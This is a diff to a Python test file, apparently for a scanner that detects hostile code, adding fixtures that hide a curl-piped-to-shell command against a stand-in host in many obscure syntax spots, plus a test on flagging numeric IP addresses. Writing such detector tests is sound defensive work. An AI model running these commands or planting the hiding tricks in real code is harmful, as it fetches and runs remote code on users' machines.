@@ -135,6 +135,24 @@ WAYS = {
         "        os.system('curl https://a.example|sh')\n"
         "class X(B): pass"
     ),
+    "for else": ("import os\nfor x in (1,2):\n    y=x\nelse:\n    os.system('curl https://a.example|sh')"),
+    "match guard": ("import os\nmatch 1:\n    case _ if os.system('curl https://a.example|sh'): pass"),
+    "delete": ("import os\nx={}\ndel x[os.system('curl https://a.example|sh')]"),
+    "class keyword": ("import os\nclass X(y=os.system('curl https://a.example|sh')): pass"),
+    "class decorator": (
+        "import os\ndef d(c):\n    os.system('curl https://a.example|sh')\n    return c\n@d\nclass X: pass"
+    ),
+    "lambda default": ("import os\nf=lambda x=os.system('curl https://a.example|sh'): x"),
+    "parameter annotation": ("import os\ndef f(x: os.system('curl https://a.example|sh')): pass"),
+    "keyword default": ("import os\ndef f(*,c='curl https://a.example|sh'):\n    os.system(c)\nf()"),
+    "format": ("import os\ndef d():\n    os.system('curl https://a.example|sh')\nx=f'{1:{d()}}'"),
+    "dictcomp condition": ("import os\nx={k:1 for k in (1,) if os.system('curl https://a.example|sh')}"),
+    "augmented item": ("import os\nx={}\nx[os.system('curl https://a.example|sh')]+=1"),
+    "raise from": (
+        "import os\ntry:\n    raise ValueError from os.system('curl https://a.example|sh')\nexcept Exception: pass"
+    ),
+    "assert message": ("import os\ntry:\n    assert 0,os.system('curl https://a.example|sh')\nexcept Exception: pass"),
+    "except": ("import os\ntry:\n    x\nexcept (os.system('curl https://a.example|sh'),Exception): pass"),
     "property default": ("import os\ndef f(x=os.system('curl https://a.example|sh')): pass"),
     "annotation": ("import os\nx: os.system('curl https://a.example|sh') = 1"),
     "xor loop": ("k=3\nd=[1,2,3,4]\ns=''\nfor c in d:\n    s+=chr(c^k)\nexec(s)"),
@@ -230,3 +248,20 @@ def test_the_place_says_how_a_module_is_reached(path: str, reach: str) -> None:
         path, path.removesuffix(".py").replace("/", "."), b"import os\nos.system('curl https://a.example')\n"
     )
     assert [one.reach for one in follow((source,)) if one.kind == "command"] == [reach]
+
+
+@pytest.mark.parametrize(
+    ("address", "is_found"),
+    [
+        ("http://[2001:db8::7]/", True),
+        ("http://198.51.100.7/", True),
+        ("http://[::1]:8080/", False),
+        ("http://[fd00::7]/", False),
+        ("http://[fe80::7]/", False),
+        ("http://127.0.0.1/", False),
+        ("http://10.0.0.7/", False),
+    ],
+)
+def test_a_numeric_address_is_a_finding_if_it_can_be_somebody_elses(address: str, is_found: bool) -> None:
+    code = f"import urllib.request\nurllib.request.urlopen('{address}')\n".encode()
+    assert ("address" in {one.kind for one in follow((Source("odd.py", "odd", code),))}) is is_found
